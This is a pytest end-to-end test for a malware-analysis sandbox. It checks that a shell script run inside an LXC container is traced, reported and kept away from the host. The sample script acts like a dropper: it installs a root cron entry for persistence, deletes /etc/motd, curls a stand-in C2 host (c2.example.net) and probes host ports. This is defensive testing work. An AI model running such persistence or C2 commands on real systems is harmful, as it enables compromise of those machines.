"""The LXC sandbox end to end: a shell script in a container, traced from the host.

The container runs the default guest's own file system on the host's kernel; the host traces
it with eBPF, captures its NIC and answers it with the fake internet. The script's programs,
files and connections must reach the report as they do from a VM, the report must say that
the isolation is a container's, and nothing the container sends may reach the host.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from aasee.images.store import GuestImage
from aasee.processing.report import validate_report
from aasee.service.analysis import AnalysisError, AnalysisOptions, run_analysis
from tests.e2e.test_network_vm import (  # noqa: F401 (fixtures)
    _Listener,
    _tcp_destinations,
    host_ip,
    host_services,
)

pytestmark = pytest.mark.vm


def _script(host: str, public: int, loopback: int) -> str:
    return f"""#!/bin/sh
echo lxc-start
uname -a
mkdir -p /tmp/stage
echo payload > /tmp/stage/drop.bin
mv /tmp/stage/drop.bin /tmp/stage/update
chmod 755 /tmp/stage/update
rm -f /etc/motd
echo "* * * * * root /tmp/stage/update" > /etc/cron.d/updater
curl -s -m 5 -o /tmp/stage/page http://c2.example.net/gate.php?id=7 && echo fetched
for target in "{host} {public}" "127.0.0.1 {loopback}" "10.0.2.2 {loopback}"; do
  set -- $target
  python3 -c 'import socket,sys
try:
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
    s.sendall(b"hello"); print(sys.argv[1], "ANSWER", s.recv(100)[:40])
except OSError as exc:
    print(sys.argv[1], "ERROR", exc)' "$1" "$2"
done
echo lxc-done
"""


def test_a_script_in_a_container_is_traced_and_contained(
    guest_image: GuestImage,
    host_ip: str,  # noqa: F811
    host_services: tuple[_Listener, _Listener],  # noqa: F811
    tmp_path: Path,
    no_leftovers: None,
) -> None:
    public, loopback = host_services
    sample = tmp_path / "dropper.sh"
    sample.write_text(_script(host_ip, public.port, loopback.port))
    out = tmp_path / "out"
    options = AnalysisOptions(timeout=30, sandbox="lxc", stop_on_exit=True)
    report = run_analysis(sample, out, options).report
    assert report is not None
    validate_report(report)

    analysis = report["analysis"]
    assert analysis["sandbox"] == "lxc" and analysis["hypervisor"] == "lxc"
    assert "host's own kernel" in analysis["isolation"]
    stdout = report["output"]["stdout"]
    assert "lxc-start" in stdout and "lxc-done" in stdout, stdout

    # Programs with their arguments, from the host-side trace.
    argvs = [p.get("argv") or [] for p in report["processes"]]
    assert ["uname", "-a"] in argvs, argvs
    assert any(a[:1] == ["curl"] for a in argvs), argvs
    # Files, with the rename and the deletion.
    written = {w["path"] for w in report["files"]["written"]}
    assert "/etc/cron.d/updater" in written, sorted(written)
    renamed = report["files"].get("renamed", [])
    assert any(r.get("dst") == "/tmp/stage/update" for r in renamed), renamed
    deleted = {d["path"] for d in report["files"]["deleted"]}
    assert "/etc/motd" in deleted, deleted
    # Connections: the fake internet answered the C2 name, the host answered nothing.
    assert "fetched" in stdout, stdout
    records = [json.loads(line) for line in (out / "fakenet.jsonl").open()]
    assert any("c2.example.net" in json.dumps(r) for r in records), records
    assert "REAL-HOST-SERVICE" not in stdout, stdout
    assert public.accepted == 0 and loopback.accepted == 0
    assert (host_ip, public.port) in _tcp_destinations(out / "network.pcap")
    connects = json.dumps(report["network"])
    assert host_ip in connects, connects

    fired = {s["id"] for s in report["signatures"]}
    assert "persistence_cron" in fired, sorted(fired)


def test_the_container_refuses_what_it_cannot_run(
    guest_image: GuestImage, tmp_path: Path, no_leftovers: None
) -> None:
    sample = tmp_path / "x.sh"
    sample.write_text("#!/bin/sh\necho hi\n")
    for options, said in (
        (AnalysisOptions(sandbox="lxc", revert="snapshot"), "starts containers fresh"),
        (AnalysisOptions(sandbox="lxc", network="isolated"), "networks fake and none"),
    ):
        with pytest.raises(AnalysisError, match=said):
            run_analysis(sample, tmp_path / "out", options)
